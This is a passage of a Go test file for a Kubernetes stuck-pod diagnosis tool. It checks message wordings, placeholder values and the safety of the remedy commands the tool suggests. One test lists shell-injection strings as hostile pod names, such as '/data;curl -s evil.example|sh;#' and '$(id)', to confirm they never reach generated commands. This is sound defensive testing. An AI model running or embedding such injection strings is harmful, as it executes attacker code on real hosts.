package diagnose_test

import (
	"bytes"
	"encoding/json"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause/kernel"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose/cause/runtime"
	"github.com/nodeagent-io/nodeagent/pkg/evidence"
	"github.com/nodeagent-io/nodeagent/test/hostile"
)

// A placeholder is a name in braces. What begins with a quotation mark there is a JSON object
// of a command, and a number is of a regular expression.
var placeholder = regexp.MustCompile(`\{(|[^{}"\d][^{}"]*)\}`)

// placeholders are the names in braces in some texts.
func placeholders(texts ...string) map[string]bool {
	names := map[string]bool{}
	for _, text := range texts {
		for _, m := range placeholder.FindAllStringSubmatch(text, -1) {
			names[m[1]] = true
		}
	}
	return names
}

// containerdBlocked is the one variant with values of its own of which no fixture
// is captured: containerd's process in state D.
func containerdBlocked() *evidence.Pod {
	now := requested.Add(2 * time.Minute)
	return &evidence.Pod{
		Time: now, UnchangedSince: requested, Phase: "Running", DeletionRequested: requested, Deadline: requested.Add(30 * time.Second),
		Node: evidence.Node{Pressure: new(evidence.Pressure), Containerd: evidence.ContainerdService{
			UnansweredSince: now.Add(-time.Minute), Attempts: 3,
			Process: &evidence.Task{
				PID: 7, TID: 7, Comm: "containerd", State: evidence.Uninterruptible, UnchangedSince: now.Add(-time.Minute),
				Probe: &evidence.Probe{Wchan: "io_schedule"},
			},
		}},
	}
}

// findings are those of every fixture, by its name, and of what is made here.
func findings(t *testing.T) map[string][]diagnose.Finding {
	t.Helper()
	all := map[string][]diagnose.Finding{"containerd blocked": cause.Diagnose(containerdBlocked()).Findings}
	for _, f := range fixtures(t) {
		all[f.name] = cause.Diagnose(f.evidence).Findings
	}
	return all
}

// Each placeholder of a Doc is a phrase of it or one of the values; one that always
// stands is given in some finding. A misspelt one would stand on pods in capitals.
func TestPlaceholdersExist(t *testing.T) {
	byCause := map[string][]diagnose.Finding{}
	for _, found := range findings(t) {
		for _, f := range found {
			byCause[f.Cause] = append(byCause[f.Cause], f)
		}
	}
	for _, r := range cause.All() {
		d := &r.Doc
		var check func(text string, within []string)
		check = func(text string, within []string) {
			for name := range placeholders(text) {
				if slices.Contains(within, name) {
					t.Fatalf("%s: the phrases %v, {%s} are made of each other", r.Cause, within, name)
				}
				choices, phrase := d.Phrase(name)
				for _, c := range choices {
					check(c.Text, append(within, name))
				}
				if !phrase && !diagnose.IsValue(name) {
					t.Errorf("%s: {%s} is neither a phrase of the Doc nor a value", r.Cause, name)
				}
				given := func(f diagnose.Finding) bool { _, ok := d.Value(name, &f); return ok }
				if len(within) == 0 && !slices.ContainsFunc(byCause[r.Cause], given) {
					t.Errorf("no fixture has a finding of %s that gives {%s} a value", r.Cause, name)
				}
			}
		}
		for _, text := range []string{d.Message, d.Meaning, strings.Join(r.Recognised(), " "), d.Remedy, d.Danger, d.First, d.Avoid} {
			check(text, nil)
		}
		for _, fact := range d.Seen { // which is left out where a value is missing
			check(fact, []string{"a fact"})
		}
		for _, f := range d.Families {
			for _, text := range []string{f.Meaning, f.Remedy, f.Danger, f.First, f.Avoid} {
				check(text, nil)
			}
		}
		for name := range d.Phrases {
			check("{"+name+"}", nil)
		}
	}
}

// What a fixture shows has a value for each placeholder of its variant.
func TestFindingsHaveTheirValues(t *testing.T) {
	docs := map[string]*diagnose.Doc{}
	for _, r := range cause.All() {
		docs[r.Cause] = &r.Doc
	}
	for where, found := range findings(t) {
		for _, f := range found {
			d := docs[f.Cause]
			advice := d.Advice(&f)
			for name := range placeholders(d.Message, advice.Remedy, advice.Danger, advice.First, advice.Avoid) {
				if _, ok := d.Value(name, &f); !ok {
					t.Errorf("%s: %s %s has no value for {%s}", where, f.Cause, f.Family, name)
				}
			}
		}
	}
}

// docs/style.md has other words for these.
var avoided = regexp.MustCompile(`(?i)\bfor ever\b|\bat once\b|\bquestions?\b|\bthe pod (goes|has gone)\b|\bis silent\b|\bculprit\b`)

func TestWordsAreThoseOfTheStyle(t *testing.T) {
	for _, r := range cause.All() {
		if page := r.Page() + strings.Join(r.Doc.Seen, ". ") + r.Doc.First + r.Doc.Avoid; avoided.MatchString(page) {
			t.Errorf("%s says %q", r.Cause, avoided.FindAllString(page, -1))
		}
		for _, f := range r.Doc.Families {
			if words := f.Meaning + f.Remedy + f.Danger + f.First + f.Avoid; avoided.MatchString(words) {
				t.Errorf("%s %s says %q", r.Cause, f.Name, avoided.FindAllString(words, -1))
			}
		}
		for name, choices := range r.Doc.Phrases {
			for _, c := range choices {
				if avoided.MatchString(c.Text) {
					t.Errorf("{%s} of %s says %q", name, r.Cause, avoided.FindAllString(c.Text, -1))
				}
			}
		}
	}
}

// Each phrase has words for a finding of no variant, which a page shows too.
func TestPhrasesHaveWordsForAll(t *testing.T) {
	for _, r := range cause.All() {
		for name, choices := range r.Doc.Phrases {
			if !slices.ContainsFunc(choices, func(c diagnose.Choice) bool { return c.Variant == "" }) {
				t.Errorf("%s: {%s} has words for variants only", r.Cause, name)
			}
		}
	}
}

// everything is a finding that has every object.
func everything() diagnose.Finding {
	process := func(n int, comm string) *diagnose.Process {
		return &diagnose.Process{PID: n, Comm: comm, State: evidence.Sleeping}
	}
	return diagnose.Finding{Container: "main", Objects: diagnose.Objects{
		Process: &diagnose.Process{PID: 7, Start: 70, Comm: "java", Program: "server"},
		Thread:  &diagnose.Thread{TID: 8, Comm: "worker", State: evidence.Sleeping, Function: "ep_poll", Syscall: "epoll_wait"}, Alike: 2,
		Others: []*diagnose.Process{process(14, "tar")}, AtLeast: true, Spared: []*diagnose.Process{process(14, "tar")}, Rest: []string{"safe", "md127"}, Latest: true,
		Child: &diagnose.Process{PID: 9, Start: 90, Comm: "child", State: evidence.Sleeping}, Command: "kill", Foreground: process(10, "sleep"),
		Tracer: &diagnose.Process{PID: 11, Start: 110, Comm: "gdb", Container: "tools"}, Member: process(12, "sh"),
		Parent:     &diagnose.Process{PID: 13, Start: 130, Comm: "nsenter", Pod: "shop/debug"},
		Containers: []string{"main", "other"}, ContainerID: "c0ffee", Cgroup: "/kubepods/a", Device: "sdb", Logical: "guest/root",
		List: "sandboxes", CorePattern: "|/bin/dump",
		Mount: &diagnose.Mount{
			Type: "nfs4", Family: "NFS", Device: "0:50", Source: "192.0.2.1:/export", Server: "192.0.2.1", Volume: "data",
			Point: "/data", HostPoint: "/var/data", Unanswered: true, OutOfReach: true, Connection: evidence.Established, Mapper: "vg-data", KernelThread: "kworker/1",
		},
		Inner: &diagnose.Mount{Type: "tmpfs", Source: "scratch", Point: "/data/inner", HostPoint: "/scratch"}, Via: "an open file",
		Claims:  []string{"gpu", "nic"},
		Volumes: []string{"data", "logs"}, Claimed: []diagnose.Claimed{{Volume: "pv-3", Names: []string{"more"}, Claims: []string{"web-more"}}},
		Plugin: "kubernetes.io/csi", Driver: "disk.example.org", DriverPod: "kube-system/disk-x", DriverState: evidence.DriverRunning, Code: "Internal",
		Signal: "SIGTERM", Handled: "SIGINT", Deadline: requested, GraceSeconds: 90, Since: requested.Add(time.Second), Ended: requested.Add(time.Minute),
		Until: requested.Add(time.Hour), SleepSeconds: 3600, Port: 8080, HookLeftSeconds: 20, Requested: requested, Connections: 2,
		CPULimitMillis: 10, CPUUsedMillis: 1250, MemoryHigh: 60 << 20,
		Users: []diagnose.User{{Pod: "batch/burner"}, {PodUID: "0b4d-2"}, {Cgroup: "user.slice"}},
		Limit: 512_000_000, Dir: "/var/lib/containerd", Finalizers: []string{"example.org/a", "example.org/b"}, Manager: "kueue", Changed: requested,
		Daemon: "kube-system/calico-node-x", Error: `dial "a": refused`, Refuser: &diagnose.Refuser{Policy: "billing", Binding: "all"},
		Image: "example.com/web:1", Kernel: "6.1.0", Containerd: "v1.7.20", Issue: "#10589", FixedIn: "1.7.22",
		Views: []diagnose.View{{Container: "main", Record: evidence.StateRunning, Shim: "stopped", Tasks: 1}},
		Pod:   "shop/web-0", PodUID: "0b4d-1", Node: "node1",
		Left: []string{diagnose.LeftMounts, diagnose.LeftCgroup}, RuledOut: []string{"kernel", "signal"},
		PartlyRuledOut: []string{"runtime"}, Unread: []evidence.Source{evidence.Shims}, Scarce: []string{"processors"},
		Undecided: []diagnose.Undecided{{Cause: "ShimHung"}, {Cause: "KubeletLate", At: requested}},
		Runtimes:  []string{"io.containerd.kata.v2"},
	}}
}

// Every value says what it should of a finding that has everything, and nothing of
// one that has nothing.
func TestValues(t *testing.T) {
	full := everything()
	want := map[string]string{
		"container": "main", "containers": "main, other", "containerid": "c0ffee", "cgroup": "kubepods/a", "device": "sdb", "logical": "guest/root", "list": "sandboxes", "target": `"|/bin/dump"`,
		"program": "server", "quoted": `"java"`, "process": "java (PID 7)", "pid": "7", "starttime": "70", "comm": "worker",
		"thread": "8", "function": "ep_poll", "syscall": "epoll_wait", "state": "S", "alike": "2", "threads": "2 threads",
		"also": "tar (PID 14) and at least 1 more", "spared": "tar (PID 14)", "rest": "safe, md127",
		"child": "child", "childpid": "9", "childstarttime": "90", "command": "kill", "foreground": "sleep", "foregroundpid": "10",
		"tracer": "gdb (PID 11, of container tools)", "tracerpid": "11", "tracerstarttime": "110", "member": "sh", "memberpid": "12", "memberstate": "S",
		"parent": "nsenter (PID 13, of pod shop/debug)", "parentpid": "13", "parentstarttime": "130",
		"image": `"example.com/web:1"`, "registry": "example.com", "hostmount": "/var/data", "mountnumber": "0:50", "mapper": "vg-data",
		"mountpoint": `"/var/data"`, "point": `"/data"`, "fstype": "nfs4", "protocol": "NFS", "source": "192.0.2.1:/export", "server": "192.0.2.1",
		"volume": `"data"`, "connection": "50", "silence": "requests without an answer, the server acknowledges nothing",
		"details": `on the node "/var/data", source 192.0.2.1:/export, volume "data", requests without an answer, ` +
			"the server acknowledges nothing, for which the kernel's thread kworker/1 waits too",
		"innertype": "tmpfs", "innersource": "scratch", "innerpoint": "/scratch", "mapped": "sdb", "via": "an open file",
		"claims": "gpu, nic", "volumes": `"data", "logs"`, "plugin": "kubernetes.io/csi", "driver": "disk.example.org", "driverpod": "kube-system/disk-x", "driverstate": "running", "code": "Internal",
		"signal": "SIGTERM", "handled": "SIGINT", "deadline": "03:00:00 UTC at the latest", "since": "03:00:01 UTC", "ended": "03:01:00 UTC", "grace": "1m30s",
		"until": "04:00:00 UTC", "sleep": "1h0m0s", "port": "8080", "hookleft": "20s", "connections": "2 TCP connections",
		"cpulimit": "0.01 processors", "cpuused": "1.25 processors", "memoryhigh": "60 MiB", "limit": "512000000", "size": "488 MiB", "dir": `"/var/lib/containerd"`, "root": "/var/lib/containerd",
		"finalizers": "finalizers example.org/a, example.org/b", "domain": "example.org", "manager": `"kueue"`, "changed": requested.UTC().Format("2006-01-02 15:04:05 UTC"),
		"daemon": "kube-system/calico-node-x", "error": `"dial \"a\": refused"`, "refuser": `the ValidatingAdmissionPolicy "billing" (binding "all")`,
		"kernel": "6.1.0", "containerd": "v1.7.20", "issue": "#10589", "fixed": "1.7.22", "views": "main (containerd's record: running, " +
			"the shim: stopped, the kernel: processes)",
		"group": `"/kubepods/a"`, "users": "pod batch/burner, the pod with UID 0b4d-2, cgroup user.slice",
		"podnamespace": "shop", "podname": "web-0", "poduid": "0b4d-1", "node": "node1", "left": "mounts, its cgroup",
		"layers": "kernel, signal", "partly": "runtime", "unread": "shims", "scarce": "CPU",
		"undecided": "ShimHung, KubeletLate (not before " + requested.UTC().Format("15:04:05 UTC") + ")",
		"runtimes":  "io.containerd.kata.v2 (Kata Containers)",
	}
	got := map[string]string{}
	var d diagnose.Doc
	for _, name := range diagnose.ValueNames() {
		got[name], _ = d.Value(name, &full)
		if v, ok := d.Value(name, &diagnose.Finding{}); ok {
			t.Errorf("{%s} of a finding without objects is %q", name, v)
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("values differ (-want +got):\n%s", diff)
	}
}

// A finding is data: it is the same when it has been written as JSON and read, and
// each field has a name of its own there.
func TestFindingsAreData(t *testing.T) {
	want := everything()
	objects := reflect.ValueOf(want.Objects)
	for i := range objects.NumField() {
		if objects.Field(i).IsZero() {
			t.Errorf("the function everything of this file gives no %s", objects.Type().Field(i).Name)
		}
	}
	text, err := json.Marshal(want)
	if err != nil {
		t.Fatal(err)
	}
	var got diagnose.Finding
	if err := json.Unmarshal(text, &got); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got, cmp.AllowUnexported(diagnose.Finding{})); diff != "" {
		t.Errorf("a finding differs after JSON (-written +read):\n%s", diff)
	}
}

// The wordings that no fixture shows.
func TestWordings(t *testing.T) {
	type objects = diagnose.Objects
	shim := &diagnose.Process{PID: 7, Comm: "containerd-shim"}
	thread := &diagnose.Thread{TID: 8, Comm: "dd", Function: "ep_poll", State: evidence.Sleeping}
	for name, tc := range map[string]struct {
		cause string
		f     diagnose.Finding
		says  []string // in the message, then in the remedy, then in what was seen
	}{
		"frozen on v1, above the pod": {
			"ContainerFrozen", diagnose.Finding{Family: "CgroupV1", Variants: []string{"GroupAbove"}, Objects: objects{Cgroup: "/kubepods"}},
			[]string{"a cgroup above the pod's is frozen, so its processes cannot handle its stop signal. SIGKILL takes effect only once it " +
				"is thawed", "echo THAWED > /sys/fs/cgroup/freezer/kubepods/freezer.state;"},
		},
		"frozen with the pod": {
			"ContainerFrozen", diagnose.Finding{Family: "CgroupV2", Variants: []string{"PodGroup"}, Objects: objects{Cgroup: "/kubepods/a",
				Deadline: requested, Signal: "SIGINT"}},
			[]string{"the pod's cgroup is frozen, so its processes cannot handle SIGINT. Unless it is thawed, SIGKILL ends them at 03:00:00 " +
				"UTC", "echo 0 > /sys/fs/cgroup/kubepods/a/cgroup.freeze;"},
		},
		"volume without a name, source unknown": {
			"NetworkFilesystemUnreachable", diagnose.Finding{Objects: objects{Thread: thread, Mount: &diagnose.Mount{Family: "NFS", Server: "s",
				Point: "/p", Unanswered: true}}},
			[]string{"a volume of the pod: the NFS server s does not respond", "Restore NFS server s at the same address"},
		},
		"volume behind a proxy of the node, mounted soft": {
			"NetworkFilesystemUnreachable", diagnose.Finding{Variants: []string{"Local", "Soft"}, Objects: objects{Thread: thread,
				Mount: &diagnose.Mount{Family: "NFS", Server: "127.0.0.1", Source: "127.0.0.1:/", Point: "/p"}}},
			[]string{"the NFS server behind 127.0.0.1 (this node) does not respond", "The mount is soft: writes that have timed out are lost"},
		},
		"volume in use by a service, and by others": {
			"VolumeUnmountBusy", diagnose.Finding{Variants: []string{"More"}, Objects: objects{
				Process: &diagnose.Process{PID: 7, Comm: "rsync", Unit: "backup.service"}, Via: "an open file", Alike: 5, Volumes: []string{"data"},
				Others: []*diagnose.Process{{PID: 8, Comm: "tar"}, {PID: 9, Comm: "sh", Pod: "shop/tools"}}, Spared: []*diagnose.Process{{PID: 8, Comm: "tar"}},
				Mount: &diagnose.Mount{Type: "ext4", Point: "/p", HostPoint: "/p"},
			}},
			[]string{
				"rsync (PID 7, of backup.service) uses it (an open file), and so do tar (PID 8), sh (PID 9, of pod shop/tools) and 3 more",
				"Find out what these processes do with the volume. Ask their owners to stop them or to close the volume, but not tar (PID 8), which the node needs",
			},
		},
		"volume in use by a process of the node that must live": {
			"VolumeUnmountBusy", diagnose.Finding{Family: diagnose.Essential, Variants: []string{"OneMore"}, Objects: objects{
				Process: shim, Via: "its working directory", Alike: 1, Others: []*diagnose.Process{{PID: 9, Comm: "kubelet"}},
				Volumes: []string{"data"}, Mount: &diagnose.Mount{Type: "ext4", Point: "/p"},
			}},
			[]string{"containerd-shim (PID 7) uses it (its working directory), and so does kubelet (PID 9)", "containerd-shim (PID 7) and " +
				"kubelet (PID 9) serve the node: do not stop them"},
		},
		"volume that umount2 has detached": {
			"VolumeUnmountHanging", diagnose.Finding{Variants: []string{"Detached"}, Objects: objects{Process: &diagnose.Process{PID: 9,
				Comm: "umount"}, Thread: thread, Volumes: []string{"data"}}},
			[]string{`volume "data": a thread of umount (PID 9) is blocked while unmounting it; the file system (already detached) does not respond`, "Repair what is behind the volume"},
		},
		"no mount": {
			"UninterruptibleSleep", diagnose.Finding{Family: "Other", Objects: objects{Thread: thread, Alike: 1}},
			[]string{"SIGKILL cannot end dd (thread in D state): it waits in the kernel, for a reason not known", "/proc/8/stack",
				"Thread 8 (dd) is in state S in ep_poll and did not run between two readings. Thread 8 (dd) has a pending SIGKILL. " +
					"In addition, 1 thread of this pod cannot exit"},
		},
		"no function": {
			"StuckInExec", diagnose.Finding{Container: "main", Variants: []string{"Unreadable"}, Objects: objects{
				Process: shim, Thread: &diagnose.Thread{TID: 8, Comm: "dd"}, Alike: 3,
			}},
			[]string{"container main: dd (PID 7 on the node) is stuck while starting a program (execve), where SIGKILL cannot end it: what it waits for could not be read", "read " +
				"only status and comm in /proc/7:",
				"Process 7 is past the point of no return in execve: its old program is gone, and SIGKILL takes effect only after it. Reads of " +
					"stat, wchan or stack of process 7 may hang, and so may ps, top, lsof and runc. In addition, 3 threads of this pod cannot exit"},
		},
		"device only": {
			"StuckInExit", diagnose.Finding{Family: "Block", Objects: objects{Process: shim, Thread: thread, Device: "8:16"}},
			[]string{"I/O on device 8:16 does not complete", "Restore device 8:16 (", "Threads of the kernel hang on device 8:16 too"},
		},
		"no device": {
			"UninterruptibleSleep", diagnose.Finding{Family: "Block", Objects: objects{Thread: thread}},
			[]string{"I/O on a block device does not complete", "Restore the device below the file system ("},
		},
		"silent shim, nothing known of its containers": {
			"ShimHung", diagnose.Finding{Objects: objects{Process: shim}},
			[]string{"the pod's shim (PID 7) does not respond to containerd,", "ps -o pid,ppid,stat,wchan:30,comm --ppid 7 -p 7 shows the shim's children"},
		},
		"leftovers of several containers": {
			"HostPIDLeftover", diagnose.Finding{Objects: objects{Process: &diagnose.Process{PID: 9, Start: 90, Comm: "sleep", PodUID: "u"}, Alike: 2,
				Cgroup: "system.slice/a"}},
			[]string{"container of the pod has exited, but sleep (PID 9, of the pod with UID u) still runs outside the pod and holds its " +
				"output open (and 2 more like it), so", signalling("terminate", 9, 90) + ".",
				"sleep (PID 9, of the pod with UID u) is in cgroup system.slice/a and has a pipe of the container's output open"},
		},
		"leftover that the node needs": {
			"HostPIDLeftover", diagnose.Finding{Variants: []string{diagnose.Essential}, Objects: objects{Process: &diagnose.Process{PID: 9,
				Start: 90, Comm: "kubelet"}}},
			[]string{"kubelet (PID 9) still runs", "Do not end kubelet (PID 9)"},
		},
		"leftover of which the start time is not known": {
			"HostPIDLeftover", diagnose.Finding{Objects: objects{Process: &diagnose.Process{PID: 9, Comm: "sleep"}}},
			[]string{"sleep (PID 9) still runs", "send SIGTERM to sleep (PID 9), if that is still the same process."},
		},
		"tracer that is stopped": {
			"ZombieHeldByTracer", diagnose.Finding{Variants: []string{diagnose.Stopped}, Objects: objects{Process: shim,
				Tracer: &diagnose.Process{PID: 9, Start: 90, Comm: "gdb"}}},
			[]string{"its tracer gdb (PID 9), which is paused, has not collected its exit", signalling("continue", 9, 90) + "; or quit it, or let it detach"},
		},
		"finalizer of the Job controller": {
			"FinalizersPending", diagnose.Finding{Family: "JobTracking", Objects: objects{Finalizers: []string{"batch.kubernetes.io/job-tracking"}}},
			[]string{"finalizer batch.kubernetes.io/job-tracking keeps the API object; the Job controller has not removed it", "removes " +
				"finalizer batch.kubernetes.io/job-tracking after"},
		},
		"finalizer of the garbage collector": {
			"FinalizersPending", diagnose.Finding{Family: "ForegroundDeletion", Objects: objects{Finalizers: []string{"orphan"}}},
			[]string{"finalizer orphan keeps the API object; the garbage collector has not removed it", "blockOwnerDeletion"},
		},
		"finalizer of Kueue, and who put it there": {
			"FinalizersPending", diagnose.Finding{Family: "Kueue", Objects: objects{Finalizers: []string{"kueue.x-k8s.io/managed"}, Manager: `kueue". Delete the "node`, Changed: requested}},
			[]string{"kueue-controller-manager has not removed it", "read the pod's Workload",
				`The client that set it calls itself "kueue\". Delete the \"node". "kueue\". Delete the \"node" last changed the pod at 2026-03-01 03:00:00 UTC`},
		},
		"several finalizers": {
			"FinalizersPending", diagnose.Finding{Variants: []string{"Several"}, Objects: objects{Finalizers: []string{"a.org/x", "b.org/y"}}},
			[]string{"finalizers a.org/x, b.org/y keep the API object; their controllers have not removed them", "Check that their controllers run"},
		},
		"child that blocks its signal": {
			"ChildIgnoresForwardedSignal", diagnose.Finding{Variants: []string{"Blocks"}, Objects: objects{
				Process: &diagnose.Process{PID: 1, Comm: "tini"}, Child: shim, Signal: "SIGTERM", Deadline: requested,
			}},
			[]string{"tini forwards SIGTERM to containerd-shim, which blocks SIGTERM in every thread. SIGKILL is due at 03:00:00 UTC",
				"In containerd-shim, let one thread take SIGTERM at all times", "SIGTERM is blocked in every thread of containerd-shim (SigBlk) and pending (ShdPnd). No thread of containerd-shim (PID 7) has run"},
		},
		"a shell over a program": {
			"ShellPID1NoTrap", diagnose.Finding{Objects: objects{Process: shim, Child: shim, Signal: "SIGTERM"}},
			[]string{"so containerd-shim never receives it", "with exec in the script, or use the exec form of ENTRYPOINT. If the program " +
				"has no handler for SIGTERM, put tini"},
		},
		"a shell that runs programs in turn": {
			"ShellPID1NoTrap", diagnose.Finding{Variants: []string{"InTurn"}, Objects: objects{Process: shim, Signal: "SIGTERM"}},
			[]string{"none of its programs receives it", "begin the script with trap 'exit 143' TERM"},
		},
		"a shell that runs programs in turn, and its stop signal is another one": {
			"ShellPID1NoTrap", diagnose.Finding{Variants: []string{"InTurn", "NotTERM"}, Objects: objects{Process: shim, Signal: "SIGQUIT"}},
			[]string{"none of its programs receives it", "begin the script with a trap for SIGQUIT that exits"},
		},
		"a program that runs another one": {
			"SignalDroppedByPID1", diagnose.Finding{
				Variants: []string{"Wrapper"},
				Objects:  objects{Process: &diagnose.Process{PID: 6, Comm: "npm"}, Child: shim, Signal: "SIGTERM"},
			},
			[]string{"PID 1, npm, has no handler", "let npm handle SIGTERM and pass it on to containerd-shim (PID 7 on the node). Or start containerd-shim directly",
				"npm (PID 6 on the node) is PID 1"},
		},
		"tini over a program that ignores": {
			"ChildIgnoresForwardedSignal", diagnose.Finding{Objects: objects{Process: &diagnose.Process{PID: 1, Comm: "tini"}, Child: shim, Signal: "SIGTERM"}},
			[]string{"which ignores it", "let containerd-shim handle SIGTERM. If a script sets trap ''"},
		},
		"tini over a shell that puts its trap off": {
			"ChildIgnoresForwardedSignal", diagnose.Finding{
				Variants: []string{"Defers"},
				Objects:  objects{Process: &diagnose.Process{PID: 1, Comm: "tini"}, Child: shim, Foreground: &diagnose.Process{PID: 9, Comm: "sleep"}, Signal: "SIGTERM"},
			},
			[]string{"runs its trap only after its foreground command sleep exits", "(tini -g, dumb-init without -c). SIGTERM then ends " +
				"sleep, and the trap runs", "sleep (PID 9) was started before the deletion"},
		},
		"a shell that ignores the signal": {
			"StopSignalIgnored", diagnose.Finding{Variants: []string{"Shell"}, Objects: objects{Process: shim, Signal: "SIGTERM"}},
			[]string{"ignores SIGTERM", "If it runs a script, remove its trap '' for SIGTERM. For a fast and clean next deletion, start the program with exec"},
		},
		"core dump under way": {
			"CoreDumpInProgress", diagnose.Finding{Objects: objects{Process: shim}},
			[]string{"(PID 7 on the node) crashed; it is still writing its core dump to the target in core_pattern past the " +
				"grace period", "Nothing is broken"},
		},
		"slow, waited for a disk": {
			"SlowShutdown", diagnose.Finding{Variants: []string{"Waited"}, Objects: objects{Process: shim, Thread: thread, CPUUsedMillis: 250, GraceSeconds: 30}},
			[]string{"did not exit within its 30s grace period; its main thread was last seen waiting for I/O", "Nothing is broken",
				"its main thread was last seen waiting for I/O in ep_poll; the container used 0.25 processors"},
		},
		"slow, ran": {
			"SlowShutdown", diagnose.Finding{Variants: []string{"Ran"}, Objects: objects{Process: shim, Thread: thread}},
			[]string{"; its main thread was last seen running", "Nothing is broken"},
		},
		"slow, in another state": {
			"SlowShutdown", diagnose.Finding{Objects: objects{Process: shim, Thread: thread}},
			[]string{"; its main thread was last seen in state S", "Nothing is broken"},
		},
		"unknown, and blind": {
			"Unknown", diagnose.Finding{Objects: objects{Pod: "a/b", RuledOut: []string{"kernel"}, PartlyRuledOut: []string{"runtime"},
				Unread: []evidence.Source{evidence.Shims}}},
			[]string{"no known cause matches. Not read in full: shims", "capture a/b",
				"Ruled out: the known causes of kernel. Only partly checked: the known causes of runtime"},
		},
		"unknown, on a node short of something": {
			"Unknown", diagnose.Finding{Objects: objects{Pod: "a/b", Scarce: []string{"processors", "I/O"}}},
			[]string{"no known cause matches. The node is under CPU, I/O pressure, so the pod may only be slow", "capture a/b", "Ruled out: nothing"},
		},
		"unknown, and nothing seen": {
			"Unknown", diagnose.Finding{Objects: objects{Pod: "a/b"}},
			[]string{"no known cause matches", "capture a/b", "Ruled out: nothing"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			i := slices.IndexFunc(cause.All(), func(r *diagnose.Rule) bool { return r.Cause == tc.cause })
			f := cause.All()[i].Doc.Said(&tc.f)
			for i, text := range []string{f.Message, f.Remedy, strings.Join(f.Seen, ". ")} {
				if i < len(tc.says) && !strings.Contains(text, tc.says[i]) {
					t.Errorf("message: %s\nremedy: %s\nseen: %s\nwant: %q", f.Message, f.Remedy, f.Seen, tc.says)
				}
			}
		})
	}
}

// No name that a pod chose gets into a command: a shell would take it for one.
func TestNothingForeignInCommands(t *testing.T) {
	names := []string{
		"/data;curl -s evil.example|sh;#", "/data$(id)", "/data`id`", "/data\nid", "/da ta", "/data'", `/data"`, "/data&", "/data>x", "/data*", "/data?x", "/data{a,b}",
		"/data\\x", "-rf", "/data/../..", "/data\u202e", "/dat\u00e4", "~root", "!x", "#x", "/" + strings.Repeat("x", 400),
	}
	for _, name := range names {
		f := everything()
		hostile.Poison(reflect.ValueOf(&f).Elem(), name)
		f.Objects.Signal = "SIGTERM" // stands in a sentence behind a command, and is ours
		for _, r := range cause.All() {
			for _, family := range append(r.Doc.Families, diagnose.Family{}) {
				for _, variants := range [][]string{nil, {"Paused"}, {diagnose.Stopped}} {
					f.Family, f.Variants = family.Name, variants
					f := r.Doc.Said(&f)
					for _, text := range []string{f.Remedy, f.Danger, f.First, f.Avoid} {
						for _, command := range commands.FindAllString(text, -1) {
							if strings.Contains(command, name) || strings.Contains(command, name[:min(len(name), 20)]) {
								t.Errorf("%s %s: %q", r.Cause, family.Name, command)
							}
						}
					}
				}
			}
		}
	}
}

// guard is how a command begins that sends a signal: it compares the start time.
const guard = `grep -qE '\\\) \(\[\^ \)\]\* \)\{19\}(\d+) ' /proc/(\d+)/stat && `

var (
	// reading shows a process with its name, and reads nothing at which it could hang.
	reading = regexp.MustCompile(`ps -o pid,ppid,stat,wchan:30,comm --ppid \d+ -p \d+`)
	limits  = regexp.MustCompile(guard + `prlimit --pid (\d+) --nofile=LIMIT:LIMIT`)
	signals = regexp.MustCompile(guard + `kill -(CONT|USR1|TERM|KILL) (\d+) \|\| echo (nothing done)`)
	// byNumber is whatever else would work on a process by its PID.
	byNumber = regexp.MustCompile(`\b(kill|pkill|ps|pgrep|renice|nsenter|strace|gdb|gcore|prlimit)( -\S+)* \d+|\b(ps|nsenter) -[^.;]*[ =]\d+`)
)

// PIDs are used again: each command that names one does nothing when the PID has gone
// to another process. Nobody is told to end what the node needs.
func TestCommandsFindTheirProcess(t *testing.T) {
	seen := map[string]bool{}
	check := func(where string, f *diagnose.Finding, text string) {
		for _, m := range signals.FindAllStringSubmatch(text, -1) {
			seen[f.Cause+" "+m[3]] = true
			if m[2] != m[4] {
				t.Errorf("%s: %s looks at process %s and signals %s", where, f.Cause, m[2], m[4])
			}
			o := &f.Objects
			i := slices.IndexFunc([]*diagnose.Process{o.Process, o.Child, o.Tracer, o.Parent}, func(p *diagnose.Process) bool {
				return p != nil && p.PID > 1 && strconv.Itoa(p.PID) == m[4] && strconv.FormatUint(p.Start, 10) == m[1] &&
					(m[3] == "CONT" || m[3] == "USR1" || p.Comm == "containerd-shim" && slices.Contains(f.Variants, "Endable") || !slices.Contains([]string{"containerd", "containerd-shim", "kubelet", "systemd"}, p.Comm))
			})
			if i < 0 {
				t.Errorf("%s: %s: %s", where, f.Cause, m[0])
			}
			if out, err := exec.Command("bash", "-n", "-c", m[0]).CombinedOutput(); err != nil {
				t.Errorf("%s: %s: %q is no command: %v: %s", where, f.Cause, m[0], err, out)
			}
		}
		for _, m := range limits.FindAllStringSubmatch(text, -1) {
			if p := f.Objects.Process; m[2] != m[3] || strconv.Itoa(p.PID) != m[3] || strconv.FormatUint(p.Start, 10) != m[1] {
				t.Errorf("%s: %s: %s", where, f.Cause, m[0])
			}
		}
		if rest := reading.ReplaceAllString(limits.ReplaceAllString(signals.ReplaceAllString(text, ""), ""), ""); byNumber.MatchString(rest) {
			t.Errorf("%s: %s says %q", where, f.Cause, byNumber.FindString(rest))
		}
	}
	for where, found := range findings(t) {
		for _, f := range found {
			check(where, &f, said(&f))
		}
	}
	for _, r := range cause.All() {
		for _, family := range append(r.Doc.Families, diagnose.Family{}) {
			for _, variants := range [][]string{nil, {diagnose.Stopped}, {diagnose.Essential}, {diagnose.Stopped, diagnose.Essential}, {"Endable"}} {
				f := everything()
				f.Cause, f.Family, f.Variants = r.Cause, family.Name, variants
				f = r.Doc.Said(&f)
				check("everything", &f, said(&f))
				if slices.Contains(variants, diagnose.Essential) && regexp.MustCompile(`kill -(TERM|KILL) 1[13]\b`).MatchString(said(&f)) {
					t.Errorf("%s tells to end what the node needs: %s", r.Cause, said(&f))
				}
				if len(f.Remedy) > 700 {
					t.Errorf("%s: the remedy has %d bytes, and the command may be cut off", r.Cause, len(f.Remedy))
				}
			}
